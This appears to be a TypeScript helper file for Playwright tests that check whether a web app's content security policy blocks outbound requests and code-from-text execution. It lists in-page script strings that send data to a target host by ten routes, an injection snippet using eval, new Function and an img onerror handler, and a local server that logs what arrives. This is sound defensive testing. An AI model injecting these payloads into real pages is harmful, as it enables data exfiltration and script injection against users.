// What a script in our page could try to send data out or run text as code, and a server that would notice. Each is a text:
// it runs in the page.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';

/** In a page without a policy each one reaches `target`; window-policy.test.ts shows that too. */
const scripts = {
  fetch: "fetch(target + '/fetch').catch(() => undefined)",
  beacon: "navigator.sendBeacon(target + '/beacon', 'x')",
  image: "new Image().src = target + '/image'",
  script: "document.head.append(Object.assign(document.createElement('script'), { src: target + '/script' }))",
  'style sheet':
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: target + '/style' }))",
  'inline style with an address': `document.body.insertAdjacentHTML('beforeend', '<p style="background:url(' + target + '/inline)">x</p>')`,
  frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: target + '/frame' }))",
  form: `const form = Object.assign(document.createElement('form'), { action: target + '/form', method: 'post' });
    document.body.append(form);
    form.submit();`,
  'web socket': "try { new WebSocket(target.replace('http', 'ws') + '/socket') } catch {}",
  prefetch:
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: target + '/prefetch' }))",
} as const;

export type Attack = keyof typeof scripts;
export const attacks = Object.keys(scripts) as Attack[];

/** The attack as a text that runs in a page. */
export const attackScript = (name: Attack, target: string): string =>
  `((target) => { ${scripts[name]} })(${JSON.stringify(target)})`;

/** Sets `window.hasRun` if any way of running text as code is open. In tasks of their own: a policy does not hold what a
 * test itself evaluates. */
export const codeFromText = `
  const mark = 'window.hasRun = true';
  setTimeout(() => eval(mark));
  setTimeout(() => new Function(mark)());
  document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="' + mark + '">');
  document.body.append(Object.assign(document.createElement('script'), { textContent: mark }));
`;

/** Waits until the app has drawn its first screen. Not by a function in the page: its policy would not run one. */
export const waitUntilDrawn = (page: Page): Promise<void> => page.locator('#root :is(main, nav, h1)').first().waitFor();

export type Witness = { origin: string; seen: string[]; close(): Promise<void> };

/** Lets every page read it, so that only the page's own policy keeps anything back. */
export const startWitness = async (): Promise<Witness> => {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    response.end('window.stolen = true;');
  });
  server.on('upgrade', (request, socket) => {
    seen.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
};
